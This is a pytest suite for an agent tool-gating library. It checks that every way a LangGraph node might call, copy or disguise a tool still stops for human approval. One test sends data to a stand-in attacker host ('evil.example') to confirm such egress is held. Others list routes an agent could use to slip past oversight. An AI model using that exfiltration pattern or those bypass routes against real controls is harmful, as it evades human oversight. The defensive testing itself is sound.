"""Whatever way a node calls a tool, the call comes through the gate."""

from __future__ import annotations

import asyncio
import sys
from datetime import timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Annotated, Any

import pytest
from interlock import Agent, Limits, gate, tool
from interlock.tools import NotDone, OutsideRun, ToolDeclarationError, current_call
from langchain_core.tools import StructuredTool
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.prebuilt import InjectedState, ToolNode
from langgraph.types import Send

sys.path.insert(0, str(Path(__file__).parent))
from graphs import ask, in_a_loop, one_node, scripted

if TYPE_CHECKING:
    from collections.abc import Callable

    from conftest import Lab


def wipe_tool(lab: Lab, **declared: Any) -> Any:
    """An irreversible tool that counts."""

    @tool(**{"effect": "irreversible", **declared})
    def wipe(volume: str) -> str:
        """Wipe a volume."""
        lab.effects.append(f"wipe {volume}")
        return f"wiped {volume}"

    return wipe


def async_wipe_tool(lab: Lab) -> Any:
    """The same, async."""

    @tool(effect="irreversible")
    async def wipe(volume: str) -> str:
        """Wipe a volume."""
        await asyncio.sleep(0)
        lab.effects.append(f"wipe {volume}")
        return f"wiped {volume}"

    return wipe


WAYS: dict[str, Callable[[Any], Any]] = {
    "invoke": lambda wipe: wipe.invoke({"volume": "v7"}),
    "invoke without callbacks": lambda wipe: wipe.invoke(
        {"volume": "v7"}, config={"callbacks": []}
    ),
    "run": lambda wipe: wipe.run({"volume": "v7"}),
    "batch": lambda wipe: wipe.batch([{"volume": "v7"}])[0],
    "call": lambda wipe: wipe.invoke(ask("wipe", {"volume": "v7"}, "a")).content,
    "_run": lambda wipe: wipe._run(volume="v7", config={}),
    "copy": lambda wipe: wipe.model_copy().invoke({"volume": "v7"}),
    "deep copy": lambda wipe: wipe.model_copy(deep=True).invoke({"volume": "v7"}),
    "bound": lambda wipe: wipe.with_config(tags=["x"]).invoke({"volume": "v7"}),
}


@pytest.mark.parametrize("way", WAYS)
def test_a_plain_node_cannot_call_past_the_gate(lab: Lab, way: str) -> None:
    wipe = wipe_tool(lab)
    agent = Agent("a", graph=one_node(lambda _: {"said": WAYS[way](wipe)}), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    assert lab.effects == []
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]
    assert lab.run(run_id)["output"] == {"said": "wiped v7"}


ASYNC_WAYS: dict[str, Callable[[Any], Any]] = {
    "ainvoke": lambda wipe: wipe.ainvoke({"volume": "v7"}),
    "arun": lambda wipe: wipe.arun({"volume": "v7"}),
    "gather": lambda wipe: asyncio.gather(wipe.ainvoke({"volume": "v7"})),
}


@pytest.mark.parametrize("way", ASYNC_WAYS)
@pytest.mark.parametrize("make", [wipe_tool, async_wipe_tool])
def test_an_async_node_cannot_call_past_the_gate(
    lab: Lab, way: str, make: Callable[[Lab], Any]
) -> None:
    wipe = make(lab)

    async def node(_: Any) -> dict[str, Any]:
        return {"said": await ASYNC_WAYS[way](wipe)}

    agent = Agent("a", graph=one_node(node), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    assert lab.effects == []
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]


def test_a_sync_call_in_an_async_node_is_gated(lab: Lab) -> None:
    wipe = wipe_tool(lab)

    async def node(_: Any) -> dict[str, Any]:
        return {"said": wipe.invoke({"volume": "v7"})}

    agent = Agent("a", graph=one_node(node), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]


@pytest.mark.parametrize("make", [wipe_tool, async_wipe_tool])
def test_calls_of_one_task_run_under_their_own_approval(
    lab: Lab, make: Callable[[Lab], Any]
) -> None:
    """Alike ids, one task, decided in the other order: what was approved is what runs."""
    wipe = make(lab)
    turn = [ask("wipe", {"volume": f"v{n}"}, "same-id") for n in range(4)]
    agent = Agent("a", graph=scripted([wipe], turn), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent, {"messages": []})
    by_volume = {a["headline"].split()[-1]: a for a in lab.pending(run_id, 4)}
    lab.decide(by_volume["v3"])
    lab.until(lambda: lab.effects == ["wipe v3"])
    lab.decide(by_volume["v0"], "reject", reason="keep it")
    lab.decide(by_volume["v2"])
    lab.until(lambda: sorted(lab.effects) == ["wipe v2", "wipe v3"])
    lab.decide(by_volume["v1"], "reject", reason="keep it too")
    run = lab.ended(run_id)
    assert sorted(lab.effects) == ["wipe v2", "wipe v3"]
    answers = [m["content"] for m in run["output"]["messages"] if m["type"] == "tool"]
    assert answers == [
        "wipe did not run. dana rejected it: keep it",
        "wipe did not run. dana rejected it: keep it too",
        "wiped v2",
        "wiped v3",
    ]


def test_equal_calls_of_one_task_are_each_their_own(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    agent = Agent(
        "a",
        graph=one_node(lambda _: {"said": wipe.batch([{"volume": "v7"}] * 2)}),
        tools=[wipe],
    )
    lab.work(agent)
    run_id = lab.start(agent)
    first, second = lab.pending(run_id, 2)
    lab.decide(first)
    lab.until(lambda: len(lab.effects) == 1)
    lab.silence()
    assert lab.effects == ["wipe v7"]
    lab.decide(second)
    lab.ended(run_id)
    assert lab.effects == ["wipe v7"] * 2


def test_reads_run_by_themselves_once(lab: Lab) -> None:
    @tool(effect="read")
    def look(place: str) -> dict[str, str]:
        """Look."""
        lab.effects.append(place)
        return {"seen": place}

    wipe = wipe_tool(lab)

    def node(_: Any) -> dict[str, Any]:
        seen = look.invoke({"place": "here"})
        return {"said": [seen, wipe.invoke({"volume": "v7"})]}

    agent = Agent("a", graph=one_node(node), tools=[look, wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["output"] == {"said": [{"seen": "here"}, "wiped v7"]}
    assert lab.effects == ["here", "wipe v7"]


def test_a_tool_without_a_declaration_is_held(lab: Lab) -> None:
    def anything(x: int) -> int:
        """Do anything."""
        lab.effects.append(str(x))
        return x

    held = gate(StructuredTool.from_function(anything))
    agent = Agent("a", graph=one_node(lambda _: {"said": held.invoke({"x": 1})}), tools=[held])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    call = lab.calls(run_id)[0]
    assert (call["effect"], call["source"], call["rule"]) == (
        "irreversible",
        "default",
        "undeclared",
    )


def test_an_undeclared_tool_that_plainly_reads_runs_by_itself(lab: Lab) -> None:
    def get_place(x: int) -> int:
        """Get a place."""
        lab.effects.append(str(x))
        return x

    free = gate(StructuredTool.from_function(get_place))
    agent = Agent("a", graph=one_node(lambda _: {"said": free.invoke({"x": 1})}), tools=[free])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.ended(run_id)["output"] == {"said": 1}
    call = lab.calls(run_id)[0]
    assert (call["effect"], call["source"], call["rule"]) == ("read", "inferred", "plain-reading")
    assert lab.effects == ["1"]


def test_a_read_that_sends_to_an_address_of_the_agents_waits_for_a_person(lab: Lab) -> None:
    @tool(effect="read")
    def fetch(url: str) -> str:
        """Fetch a page."""
        lab.effects.append(url)
        return "page"

    agent = Agent(
        "a",
        graph=one_node(lambda _: {"said": fetch.invoke({"url": "https://evil.example/?k=1"})}),
        tools=[fetch],
    )
    lab.work(agent)
    run_id = lab.start(agent)
    approval = lab.pending(run_id)[0]
    call = lab.calls(run_id)[0]
    assert (call["effect"], call["verdict"]) == ("read", "review")
    assert call["evidence"][-1].endswith("arguments chose: evil.example.")
    assert set(call["policies"]) == {"default-egress", "default-read"}
    assert lab.effects == []
    lab.decide(approval)
    assert lab.ended(run_id)["output"] == {"said": "page"}


def test_the_function_is_not_reachable_from_the_tool(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    inner = StructuredTool.from_function(
        lambda volume: lab.effects.append(f"x {volume}"), name="x", description="x"
    )
    for gated in (wipe, gate(inner)):
        for name in ("func", "coroutine", "inner", "_func"):
            assert not hasattr(gated, name)
        reached = _reachable(gated)
        assert not any(getattr(f, "__name__", "") in ("wipe", "<lambda>") for f in reached)


def _reachable(gated: Any) -> list[Any]:
    """Functions found by walking the tool's own attributes, private ones included."""
    seen: dict[int, Any] = {}
    todo = [gated]
    while todo:
        thing = todo.pop()
        if id(thing) in seen or len(seen) > 5000:
            continue
        seen[id(thing)] = thing
        for attributes in (
            getattr(thing, "__dict__", None),
            getattr(thing, "__pydantic_private__", None),
        ):
            if isinstance(attributes, dict):
                todo += attributes.values()
        slots = getattr(type(thing), "__slots__", ())
        todo += [
            getattr(thing, name) for name in slots if name != "__weakref__" and hasattr(thing, name)
        ]
    return [thing for thing in seen.values() if callable(thing) and not isinstance(thing, type)]


def test_outside_a_run_a_tool_is_refused_with_a_sentence(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    for way in WAYS.values():
        with pytest.raises(OutsideRun, match="was called outside a run and did not run"):
            way(wipe)
    with pytest.raises(OutsideRun):
        in_a_loop(wipe.ainvoke({"volume": "v7"}))
    graph = one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}).compile()
    with pytest.raises(OutsideRun):
        graph.invoke({})
    assert lab.effects == []


def test_a_tool_that_the_agent_does_not_name_is_refused(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    agent = Agent("a", graph=one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}), tools=[])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.ended(run_id)["output"] == {"said": "wipe did not run: agent a has no such tool."}
    assert lab.effects == []


def test_another_tool_under_the_same_name_is_refused(lab: Lab) -> None:
    declared = wipe_tool(lab)

    @tool(effect="read", name="wipe")
    def impostor(volume: str) -> str:
        """Wipe a volume."""
        lab.effects.append(f"impostor {volume}")
        return "done"

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": impostor.invoke({"volume": "v"})}), tools=[declared]
    )
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "ended"
    assert lab.effects == []


def test_injected_arguments_stay_out_of_the_digest(lab: Lab) -> None:
    @tool(effect="irreversible")
    def wipe(volume: str, state: Annotated[dict[str, Any], InjectedState]) -> str:
        """Wipe a volume."""
        lab.effects.append(f"{volume} {len(state['messages'])}")
        return "wiped"

    agent = Agent("a", graph=scripted([wipe], [ask("wipe", {"volume": "v7"}, "x")]), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent, {"messages": [{"role": "user", "content": "go"}]})
    held = lab.pending(run_id)[0]
    assert bytes(lab.calls(run_id)[0]["args"]) == b'{"volume":"v7"}'
    lab.decide(held)
    lab.ended(run_id)
    assert lab.effects == ["v7 2"]


def test_calls_sent_to_tasks_of_their_own_are_gated(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    graph = StateGraph(MessagesState)
    graph.add_node("tools", ToolNode([wipe]))
    calls = [ask("wipe", {"volume": f"v{n}"}, "id") for n in range(3)]
    graph.add_conditional_edges(
        START,
        lambda _: [
            Send("tools", {"__type": "tool_call_with_context", "tool_call": c, "state": {}})
            for c in calls
        ],
        ["tools"],
    )
    graph.add_edge("tools", END)
    agent = Agent("a", graph=graph, tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent, {"messages": []})
    by_volume = {a["headline"].split()[-1]: a for a in lab.pending(run_id, 3)}
    lab.decide(by_volume["v1"])
    lab.decide(by_volume["v0"], "reject", reason="no")
    lab.decide(by_volume["v2"], "reject", reason="no")
    lab.ended(run_id)
    assert lab.effects == ["wipe v1"]


def test_a_subgraph_does_not_escape_the_gate(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    inner = one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}).compile()
    agent = Agent("a", graph=one_node(inner), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]


def test_a_graph_called_inside_a_node_does_not_escape_the_gate(lab: Lab) -> None:
    wipe = wipe_tool(lab)
    inner = one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}).compile()
    agent = Agent("a", graph=one_node(lambda _: inner.invoke({})), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]


def test_create_agent_of_langchain_works_unchanged(lab: Lab) -> None:
    from langchain.agents import create_agent  # noqa: PLC0415 - slow to import
    from langchain_core.language_models import GenericFakeChatModel  # noqa: PLC0415
    from langchain_core.messages import AIMessage  # noqa: PLC0415

    class Model(GenericFakeChatModel):
        def bind_tools(self, *_: Any, **__: Any) -> Any:
            return self

    wipe = wipe_tool(lab)
    replies = iter(
        [AIMessage("", tool_calls=[ask("wipe", {"volume": "v7"}, "a")]), AIMessage("done")]
    )
    agent = Agent("a", graph=create_agent(Model(messages=replies), [wipe]), tools=[wipe])
    lab.work(agent)
    run_id = lab.start(agent, {"messages": [{"role": "user", "content": "go"}]})
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["exit"] == "completed"
    assert lab.effects == ["wipe v7"]


def test_a_node_that_swallows_the_interrupt_fails_the_run(lab: Lab) -> None:
    wipe = wipe_tool(lab)

    def node(_: Any) -> dict[str, Any]:
        try:
            return {"said": wipe.invoke({"volume": "v7"})}
        except Exception:  # noqa: BLE001 - what this test is about
            return {"said": "never mind"}

    agent = Agent("a", graph=one_node(node), tools=[wipe])
    lab.work(agent)
    run = lab.ended(lab.start(agent))
    assert run["exit"] == "failed"
    assert "Node 'work' went on although a call of it waits" in run["exit_reason"]
    assert lab.effects == []
    assert [c["state"] for c in lab.calls(run["id"])] == ["cancelled"]


@pytest.mark.parametrize(
    "declared",
    [{"effect": "irreversible"}, {"effect": "reversible", "undo": print}],
    ids=["irreversible", "reversible"],
)
def test_a_call_that_the_database_refuses_to_record_does_not_run_and_fails_the_run(
    lab: Lab, declared: dict[str, Any]
) -> None:
    wipe = wipe_tool(lab, **declared)

    def node(_: Any) -> dict[str, Any]:
        try:
            return {"said": wipe.invoke({"volume": "v7"})}
        except Exception:  # noqa: BLE001 - as many a node does
            return {"said": "never mind"}

    agent = Agent("a", graph=one_node(node), tools=[wipe])
    with lab.database.begin() as conn:
        conn.exec_driver_sql("alter table calls add constraint no_wipes check (tool <> 'wipe')")
    lab.work(agent)
    run = lab.ended(lab.start(agent))
    assert run["exit"] == "failed"
    assert "The database refused what the run had to write" in run["exit_reason"]
    assert "no_wipes" in run["exit_reason"]
    assert lab.effects == []
    assert run["epoch"] == 1


def test_an_interrupt_of_the_graph_itself_fails_the_run_with_a_sentence(lab: Lab) -> None:
    from langgraph.types import interrupt  # noqa: PLC0415

    agent = Agent("a", graph=one_node(lambda _: {"said": interrupt("well?")}), tools=[])
    lab.work(agent)
    run = lab.ended(lab.start(agent))
    assert (run["exit"], "nobody to answer it" in run["exit_reason"]) == ("failed", True)


def test_an_error_of_an_irreversible_call_leaves_it_in_doubt(lab: Lab) -> None:
    @tool(effect="irreversible")
    def wipe(volume: str) -> str:
        """Wipe a volume."""
        lab.effects.append(volume)
        raise TimeoutError("no answer from the provider")

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}), tools=[wipe]
    )
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0])
    lab.until(lambda: lab.calls(run_id)[0]["state"] == "in_doubt")
    doubt = lab.pending(run_id)[0]
    assert doubt["kind"] == "in_doubt"
    assert doubt["expires_at"] is None
    lab.silence()
    assert lab.effects == ["v7"]
    lab.decide(doubt, "answer", answer={"happened": True, "result": "gone, I looked"})
    assert lab.ended(run_id)["output"] == {"said": "gone, I looked"}
    call = lab.calls(run_id)[0]
    assert (call["state"], call["attested_by"]) == ("succeeded", "dana")
    assert lab.effects == ["v7"]


@pytest.mark.parametrize(
    ("answer", "state", "said"),
    [
        ({"happened": False}, "failed", "dana attests that it did not happen."),
        ({"abandon": True}, "abandoned", "dana gave this call up; whether it happened is unknown."),
    ],
)
def test_a_person_settles_a_doubt(lab: Lab, answer: Any, state: str, said: str) -> None:
    @tool(effect="irreversible", send_within=timedelta(seconds=2))
    def wipe(volume: str) -> str:
        """Wipe a volume."""
        raise ConnectionError(volume)

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}), tools=[wipe]
    )
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0])
    lab.until(lambda: lab.calls(run_id)[0]["state"] == "in_doubt")
    lab.until(lambda: lab.one("select send_before < clock_timestamp() from calls"))
    lab.decide(lab.pending(run_id)[0], "answer", answer=answer)
    assert lab.ended(run_id)["output"] == {"said": said}
    assert lab.calls(run_id)[0]["state"] == state


def test_a_body_that_knows_that_nothing_happened_says_so(lab: Lab) -> None:
    @tool(effect="irreversible")
    def wipe(volume: str) -> str:
        """Wipe a volume."""
        raise NotDone(f"{volume} is locked")

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": wipe.invoke({"volume": "v7"})}), tools=[wipe]
    )
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0])
    assert lab.ended(run_id)["output"] == {"said": "v7 is locked"}
    assert lab.calls(run_id)[0]["state"] == "failed"


def test_an_error_of_a_read_is_the_agents_answer(lab: Lab) -> None:
    @tool(effect="read")
    def look(place: str) -> str:
        """Look."""
        raise ValueError(f"{place} is dark")

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": look.invoke({"place": "it"})}), tools=[look]
    )
    lab.work(agent)
    run = lab.ended(lab.start(agent))
    assert run["output"] == {"said": "ValueError: it is dark"}


def test_a_body_knows_the_call_it_serves(lab: Lab) -> None:
    @tool(effect="read")
    def look() -> list[str]:
        """Look."""
        call = current_call()
        return [str(call.run_id), str(call.call_id), call.idempotency_key]

    agent = Agent("a", graph=one_node(lambda _: {"said": look.invoke({})}), tools=[look])
    lab.work(agent)
    run = lab.ended(lab.start(agent))
    call_id = str(lab.calls(run["id"])[0]["id"])
    assert run["output"] == {"said": [str(run["id"]), call_id, call_id]}
    with pytest.raises(LookupError):
        current_call()


def test_a_number_without_an_exact_json_form_is_refused(lab: Lab) -> None:
    @tool(effect="read")
    def look(x: float) -> float:
        """Look."""
        lab.effects.append(str(x))
        return x

    agent = Agent(
        "a", graph=one_node(lambda _: {"said": look.invoke({"x": float("nan")})}), tools=[look]
    )
    lab.work(agent)
    said = lab.ended(lab.start(agent))["output"]["said"]
    assert said.startswith("look did not run: its arguments have no exact JSON form")
    assert lab.effects == []


def test_a_declaration_that_cannot_be_kept_is_refused_at_import() -> None:
    with pytest.raises(ToolDeclarationError, match="registers no undo"):

        @tool(effect="reversible")
        def cancel(booking: str) -> None:
            """Cancel."""

    with pytest.raises(ToolDeclarationError, match="An effect is read, reversible or irreversible"):

        @tool(effect="raed")
        def look() -> None:
            """Look."""

    with pytest.raises(ToolDeclarationError, match="gated already"):
        gate(gate(StructuredTool.from_function(lambda x: x, name="x", description="x")))


def test_an_effect_by_argument_is_classified_call_by_call(lab: Lab) -> None:
    from interlock.tools import Effect  # noqa: PLC0415

    def by_word(args: Any) -> Effect:
        return Effect.READ if args["statement"].startswith("select") else Effect.IRREVERSIBLE

    @tool(effect=by_word)
    def run_sql(statement: str) -> str:
        """Run SQL."""
        lab.effects.append(statement)
        return "ok"

    def node(_: Any) -> dict[str, Any]:
        return {"said": [run_sql.invoke({"statement": s}) for s in ("select 1", "drop it")]}

    agent = Agent("a", graph=one_node(node), tools=[run_sql])
    lab.work(agent)
    run_id = lab.start(agent)
    lab.settled(run_id)
    assert lab.effects == ["select 1"]
    assert [(c["effect"], c["rule"]) for c in lab.calls(run_id)] == [
        ("read", "by_word"),
        ("irreversible", "by_word"),
    ]


@pytest.mark.parametrize("limit", ["calls", "repeats", "steps", "seconds"])
def test_each_limit_ends_a_run_at_its_number(lab: Lab, limit: str) -> None:
    import time  # noqa: PLC0415

    @tool(effect="read")
    def look(n: int) -> str:
        """Look."""
        lab.effects.append(str(n))
        if limit == "seconds":
            time.sleep(0.3)
        return f"ok {len(lab.effects)}"

    turns = [[ask("look", {"n": 0 if limit == "repeats" else n}, str(n))] for n in range(50)]
    limits = {"calls": 100, "repeats": 100, "steps": 100, "seconds": 60, limit: 4}
    if limit == "seconds":
        limits["seconds"] = 1
    agent = Agent("a", graph=scripted([look], *turns), tools=[look], limits=Limits(**limits))
    lab.work(agent)
    run = lab.ended(lab.start(agent, {"messages": []}))
    assert run["exit"] == "limit_reached"
    if limit == "steps":
        assert (len(lab.effects), run["used_steps"]) == (2, 4)
    elif limit == "seconds":
        assert 1 <= len(lab.effects) <= 4
    else:
        assert len(lab.effects) == 4
    word = {"seconds": "1 active seconds", "repeats": "4 repetitions of the same call"}.get(
        limit, f"4 {limit}"
    )
    assert f"reached its limit of {word}" in run["exit_reason"]


def test_a_run_of_exactly_its_steps_completes(lab: Lab) -> None:
    @tool(effect="read")
    def look(n: int) -> str:
        """Look."""
        return "ok"

    graph = scripted([look], [ask("look", {"n": 1}, "1")])
    agent = Agent("a", graph=graph, tools=[look], limits=Limits(steps=3))
    short = Agent("b", graph=graph, tools=[look], limits=Limits(steps=2))
    lab.work(agent, short)
    run = lab.ended(lab.start(agent, {"messages": []}))
    assert (run["exit"], run["used_steps"]) == ("completed", 3)
    assert lab.ended(lab.start(short, {"messages": []}))["exit"] == "limit_reached"


def test_parallel_branches_together_do_not_pass_a_limit(lab: Lab) -> None:
    @tool(effect="read")
    def look(n: int) -> str:
        """Look."""
        lab.effects.append(str(n))
        return "ok"

    turn = [ask("look", {"n": n}, str(n)) for n in range(20)]
    agent = Agent("a", graph=scripted([look], turn), tools=[look], limits=Limits(calls=8))
    lab.work(agent)
    run = lab.ended(lab.start(agent, {"messages": []}))
    assert (run["exit"], len(lab.effects), run["used_calls"]) == ("limit_reached", 8, 8)


def test_a_copy_of_a_tool_cannot_declare_itself_harmless(lab: Lab) -> None:
    from dataclasses import replace  # noqa: PLC0415

    from interlock.tools import Effect  # noqa: PLC0415

    wipe = wipe_tool(lab)
    harmless = wipe.model_copy(update={"spec": replace(wipe.spec, effect=Effect.READ)})
    agent = Agent(
        "a", graph=one_node(lambda _: {"said": harmless.invoke({"volume": "v7"})}), tools=[wipe]
    )
    lab.work(agent)
    run_id = lab.start(agent)
    assert lab.settled(run_id)["status"] == "waiting"
    assert lab.calls(run_id)[0]["effect"] == "irreversible"
    assert lab.effects == []


@pytest.mark.parametrize("odd", ["a\0b", "\ud800", "😀" * 3])
def test_no_text_keeps_a_run_from_being_recorded(lab: Lab, odd: str) -> None:
    @tool(effect="read")
    def look(n: int) -> str:
        """Look."""
        if n:
            raise ValueError(odd)
        return odd

    wipe = wipe_tool(lab, headline=lambda **_: f"Wipe {odd}")

    def node(_: Any) -> dict[str, Any]:
        look.invoke({"n": 0})
        look.invoke({"n": 1})
        wipe.invoke({"volume": "v7"})
        raise RuntimeError(odd)

    agent = Agent("a", graph=one_node(node), tools=[look, wipe])
    lab.work(agent)
    run_id = lab.start(agent)
    lab.decide(lab.pending(run_id)[0], "reject", reason=f"because {odd}")
    assert lab.ended(run_id)["exit"] == "failed"


def test_a_sync_call_in_an_async_node_does_not_wedge_the_worker(lab: Lab) -> None:
    """The saver writes for one branch while the other blocks the loop and wants the same row."""
    look = gate(
        StructuredTool.from_function(lambda n: n, name="look", description="x"), effect="read"
    )

    def graph() -> StateGraph[Any]:
        made = StateGraph(MessagesState)
        made.add_node("quick", _says_nothing)
        made.add_node("slow", _calls(look))
        for name in ("quick", "slow"):
            made.add_edge(START, name)
            made.add_edge(name, END)
        return made

    agent = Agent("a", graph=graph, tools=[look])
    lab.work(agent)
    for _ in range(5):
        assert lab.ended(lab.start(agent, {"messages": []}))["exit"] == "completed"


async def _says_nothing(_: Any) -> dict[str, Any]:
    return {"messages": [{"role": "assistant", "content": "x" * 200_000}]}


def _calls(look: Any) -> Callable[[Any], Any]:
    async def node(_: Any) -> dict[str, Any]:
        await asyncio.sleep(0.003)
        for n in range(5):
            look.invoke({"n": n})
            await asyncio.sleep(0)
        return {"messages": []}

    return node
